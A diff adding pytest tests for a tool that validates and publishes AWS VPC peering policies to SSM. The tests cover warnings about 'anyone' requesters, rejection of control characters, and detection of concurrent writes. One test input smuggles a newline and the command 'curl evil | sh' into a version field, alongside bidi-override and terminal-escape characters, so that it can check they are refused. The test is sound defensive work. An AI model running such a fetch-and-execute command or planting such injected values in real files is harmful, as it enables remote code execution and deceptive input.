@@ -289,3 +289,140 @@ def test_publish_dry_run_puts_nothing(ssm: object, capsys: pytest.CaptureFixture
     assert "would publish version 2024-06-01.1" in capsys.readouterr().out
     with pytest.raises(ssm.exceptions.ParameterNotFound):  # type: ignore[attr-defined]
         published(ssm)
+
+
+# --- guard rails: who may ask, "anyone" said out loud, one publisher at a time --------------------
+
+OPEN_POLICY = """schemaVersion: 1
+version: "open-1"
+rules:
+  - name: anyone-into-opted-in
+    action: accept
+    requester:
+      anyone: true
+    accepter:
+      vpcTag: {key: "peering-autopilot:accept", value: "true"}
+"""
+
+
+def test_check_refuses_an_accept_rule_that_names_no_requester(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    one_line = write(tmp_path, "one.yaml", 'schemaVersion: 1\nversion: "1"\nrules:\n  - {name: all, action: accept}\n')
+    tag_only = write(tmp_path, "tag.yaml", OPEN_POLICY.replace("    requester:\n      anyone: true\n", ""))
+
+    assert main(["policy", "check", one_line]) == 2
+    assert main(["policy", "check", tag_only]) == 2
+
+    err = capsys.readouterr().err.splitlines()
+    assert any(line.startswith(f"{one_line}:4:5: rules.0: accept rule 'all' must say who may ask") for line in err)
+    assert any(line.startswith(f"{tag_only}:4:5: rules.0: accept rule 'anyone-into-opted-in' must say") for line in err)
+
+
+def test_check_warns_loudly_about_anyone_and_strict_fails(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    path = write(tmp_path, "open.yaml", OPEN_POLICY)
+
+    assert main(["policy", "check", path]) == 0
+    out, err = capsys.readouterr()
+    assert "valid, version open-1, 1 rule(s)" in out
+    warning = f"WARNING: {path}:7:7: rules.0.requester.anyone: rule 'anyone-into-opted-in' accepts peering requests "
+    assert warning in err
+    assert "from ANY AWS account in the world" in err
+
+    assert main(["policy", "check", "--strict", path]) == 1
+    assert "refused: 1 warning(s) and --strict" in capsys.readouterr().err
+
+
+def test_test_and_publish_surface_the_warning(ssm: object, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    path = write(tmp_path, "open.yaml", OPEN_POLICY)
+    cases = write(tmp_path, "c.yaml", ONE_CASE % "hold")  # its accepter VPC did not opt in
+
+    assert main(["policy", "test", path, cases]) == 0
+    assert "WARNING: " in capsys.readouterr().err
+    assert main(["policy", "publish", "--strict", path]) == 1
+    assert "WARNING: " in capsys.readouterr().err
+    with pytest.raises(ssm.exceptions.ParameterNotFound):  # type: ignore[attr-defined]
+        published(ssm)
+    assert main(["policy", "publish", path]) == 0
+    out, err = capsys.readouterr()
+    assert "WARNING: " in err
+    assert "published version open-1" in out
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ('schemaVersion: 1\nversion: "1\\n$ curl evil | sh"\n', ":2:10: version: character 2 is U+000A"),
+        (
+            'schemaVersion: 1\nversion: "1"\nrules:\n  - {name: "ok\\u202e", action: hold}\n',
+            ":4:12: rules.0.name: character 3 is U+202E",
+        ),
+        (
+            'schemaVersion: 1\nversion: "1"\nrules:\n  - name: r\n    action: hold\n    description: "a\\x1b[2J"\n',
+            ":6:18: rules.0.description: character 2 is U+001B",
+        ),
+        (
+            '{"schemaVersion": 1, "version": "1", "rules": [{"name": "r", "action": "hold", '
+            '"accepter": {"vpcTag": {"key": "k", "value": "v\\u2066"}}}]}',
+            ":1:125: rules.0.accepter.vpcTag.value: character 2 is U+2066",
+        ),
+    ],
+)
+def test_check_refuses_control_characters_with_their_place(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, expected: str
+) -> None:
+    path = write(tmp_path, "p.yaml", text)
+    assert main(["policy", "check", path]) == 2
+    assert f"{path}{expected}" in capsys.readouterr().err
+
+
+def _rival_writes_first(monkeypatch: pytest.MonkeyPatch, text: str, *, overwrite: bool) -> None:
+    """Another person's PutParameter lands between publish's check and its own PutParameter."""
+    real_session = boto3.session.Session
+    rival = boto3.client("ssm", region_name="us-east-1")
+
+    def rival_write(**_: object) -> None:
+        rival.put_parameter(Name=PARAMETER, Value=text, Type="String", Overwrite=overwrite)
+
+    def session(*args: object, **kwargs: object) -> boto3.session.Session:
+        made = real_session(*args, **kwargs)  # type: ignore[arg-type]
+        made.events.register_first("before-call.ssm.PutParameter", rival_write)
+        return made
+
+    monkeypatch.setattr(boto3.session, "Session", session)
+
+
+def test_publish_detects_a_write_between_its_check_and_its_put(
+    ssm: object, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main(["policy", "publish", EXAMPLE]) == 0
+    theirs = example_with(tmp_path, ('version: "2024-06-01.1"', 'version: "theirs-2"'))
+    ours = write(tmp_path, "ours.yaml", Path(EXAMPLE).read_text().replace('"2024-06-01.1"', '"ours-2"'))
+    capsys.readouterr()
+    _rival_writes_first(monkeypatch, Path(theirs).read_text(), overwrite=True)
+
+    assert main(["policy", "publish", ours]) == 3
+
+    out, err = capsys.readouterr()
+    assert "published version" not in out
+    assert (
+        "conflict: someone else wrote /peering-autopilot/policy between this command's check (parameter version 1) "
+        "and its write (parameter version 3)" in err
+    )
+    assert "  parameter version 2: policy version theirs-2" in err
+    assert "policy diff" in err
+    assert published(ssm) == (Path(ours).read_text(), 3)
+
+
+def test_publish_of_a_new_parameter_does_not_overwrite_one_created_meanwhile(
+    ssm: object, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    theirs = Path(example_with(tmp_path, ('version: "2024-06-01.1"', 'version: "theirs-1"'))).read_text()
+    _rival_writes_first(monkeypatch, theirs, overwrite=False)
+
+    assert main(["policy", "publish", EXAMPLE]) == 3
+
+    assert "did not exist when checked, but someone created it before this write; nothing was written" in (
+        capsys.readouterr().err
+    )
+    assert published(ssm) == (theirs, 1)
